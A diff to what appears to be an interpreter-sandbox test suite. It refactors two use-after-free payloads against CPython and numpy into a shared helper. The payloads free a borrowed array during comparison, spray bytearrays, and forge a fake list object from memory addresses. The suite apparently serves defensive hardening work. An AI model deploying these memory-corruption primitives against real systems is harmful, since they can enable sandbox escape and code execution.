@@ -247,6 +247,61 @@ class Payload:
         self.max_ms = max_ms     # the call must end within this, however it ends
 
 
+def borrowed_array_payload(name, drop, trigger):
+    """A comparison CPython makes on an item it holds no reference to
+    (reviews 62, 63): numpy's comparison of a string array runs the code,
+    which drops the array (drop, on holder[0]), and returns NotImplemented;
+    the code's reflected __gt__ then gets the freed array, refilled by a
+    bytearray's buffer as a fake list.  trigger: main()'s lines that set
+    holder[0] and compare.  Held, the array comes back itself."""
+    code = textwrap.dedent("""
+        import textwrap
+        import numpy as np
+        holder = [None]
+        got = [None]
+        freed = [False]
+        SPRAY = []
+        FAKE = [b""]
+        class W:
+            def __eq__(self, o):
+                return False
+            def __gt__(self, o):
+                if holder[0] is not None and len(holder[0]):
+                    DROP
+                    holder[0] = None
+                    freed[0] = True
+                raise TypeError("no order")
+        class Z:
+            def __len__(self):
+                return 1
+            def __getitem__(self, i):
+                if i != 0:
+                    raise IndexError(i)
+                if freed[0] and not SPRAY:
+                    for _ in range(300):
+                        SPRAY.append(bytearray(FAKE[0]))
+                return W()
+            def __eq__(self, o):
+                return False
+            def __lt__(self, other):
+                return False
+            def __gt__(self, other):
+                if freed[0] and got[0] is None:
+                    got[0] = other
+                return False
+        def main():
+            f = textwrap.dedent
+            FAKE[0] = b"".join(v.to_bytes(8, "little") for v in
+                               (1 << 40, id(list), 1, id(f) + 24, 1, 0, 0, 0, 0, 0, 0, 0))[:95]
+            TRIGGER
+            if type(got[0]) is list:
+                return "the freed array came back as a list"
+            raise LookupError("the array was held: %s" % type(got[0]).__name__)
+        """).replace("DROP", drop).replace(
+            "TRIGGER", textwrap.indent(textwrap.dedent(trigger).strip("\n"), "    ").lstrip())
+    return Payload(name, code, on={EXCEPTION}, off={OK, CRASH, EXCEPTION})
+
+
 def ctypes_payload(name, body, params="", off=(SECCOMP,), **kw):
     """A payload that reaches libc through numpy's ctypes."""
     code = ("import numpy as np\n"
@@ -5899,94 +5954,17 @@ PAYLOADS = [
     # last (gh-120298); numpy's comparison ran the code, which emptied the
     # list, and returned NotImplemented: the code's reflected method got
     # the freed array, refilled by a bytearray's buffer (a fake list)
-    Payload("list-ordering-borrowed-numpy-array", """
-        import textwrap
-        import numpy as np
-        holder = [None]
-        got = [None]
-        freed = [False]
-        SPRAY = []
-        FAKE = [b""]
-        class W:
-            def __eq__(self, o):
-                return False
-            def __gt__(self, o):
-                if holder[0]:
-                    holder[0].clear()
-                    freed[0] = True
-                raise TypeError("no order")
-        class Z:
-            def __len__(self):
-                return 1
-            def __getitem__(self, i):
-                if i != 0:
-                    raise IndexError(i)
-                if freed[0] and not SPRAY:
-                    for _ in range(300):
-                        SPRAY.append(bytearray(FAKE[0]))
-                return W()
-            def __eq__(self, o):
-                return False
-            def __gt__(self, other):
-                if freed[0]:
-                    got[0] = other
-                return False
-        def main():
-            f = textwrap.dedent
-            FAKE[0] = b"".join(v.to_bytes(8, "little") for v in
-                               (1 << 40, id(list), 1, id(f) + 24, 1, 0, 0, 0, 0, 0, 0, 0))[:95]
+    borrowed_array_payload("list-ordering-borrowed-numpy-array", "holder[0].clear()", """
             holder[0] = [np.array(["abc"])]
             try:
                 holder[0] < [Z()]
             except Exception:
-                pass
-            if type(got[0]) is list:
-                return "the freed array came back as a list"
-            raise LookupError("the array was held: %s" % type(got[0]).__name__)
-        """, on={EXCEPTION}, off={OK, CRASH, EXCEPTION}),
+                pass"""),
     # review 63: argsort (and argpartition, searchsorted, lexsort) of an
     # array of Python objects compare its elements without references, as
     # sort did: the code emptied the array's slot while numpy's comparison
     # of a string array ran, and got the freed array back
-    Payload("object-argsort-borrowed-numpy-array", """
-        import textwrap
-        import numpy as np
-        holder = [None]
-        got = [None]
-        freed = [False]
-        SPRAY = []
-        FAKE = [b""]
-        class W:
-            def __eq__(self, o):
-                return False
-            def __gt__(self, o):
-                if holder[0] is not None:
-                    holder[0][1] = None
-                    holder[0] = None
-                    freed[0] = True
-                raise TypeError("no order")
-        class Z:
-            def __len__(self):
-                return 1
-            def __getitem__(self, i):
-                if i != 0:
-                    raise IndexError(i)
-                if freed[0] and not SPRAY:
-                    for _ in range(300):
-                        SPRAY.append(bytearray(FAKE[0]))
-                return W()
-            def __eq__(self, o):
-                return False
-            def __lt__(self, other):
-                return False
-            def __gt__(self, other):
-                if freed[0] and got[0] is None:
-                    got[0] = other
-                return False
-        def main():
-            f = textwrap.dedent
-            FAKE[0] = b"".join(v.to_bytes(8, "little") for v in
-                               (1 << 40, id(list), 1, id(f) + 24, 1, 0, 0, 0, 0, 0, 0, 0))[:95]
+    borrowed_array_payload("object-argsort-borrowed-numpy-array", "holder[0][1] = None", """
             arr = np.empty(2, dtype=object)
             arr[0] = Z()
             arr[1] = np.array(["abc"])
@@ -5994,11 +5972,7 @@ PAYLOADS = [
             try:
                 arr.argsort(kind="quicksort")
             except Exception:
-                pass
-            if type(got[0]) is list:
-                return "the freed array came back as a list"
-            raise LookupError("the array was held: %s" % type(got[0]).__name__)
-        """, on={EXCEPTION}, off={OK, CRASH, EXCEPTION}),
+                pass"""),
     Payload("make-dataclass-str-base-own-startswith", """
         import dataclasses
         def main():
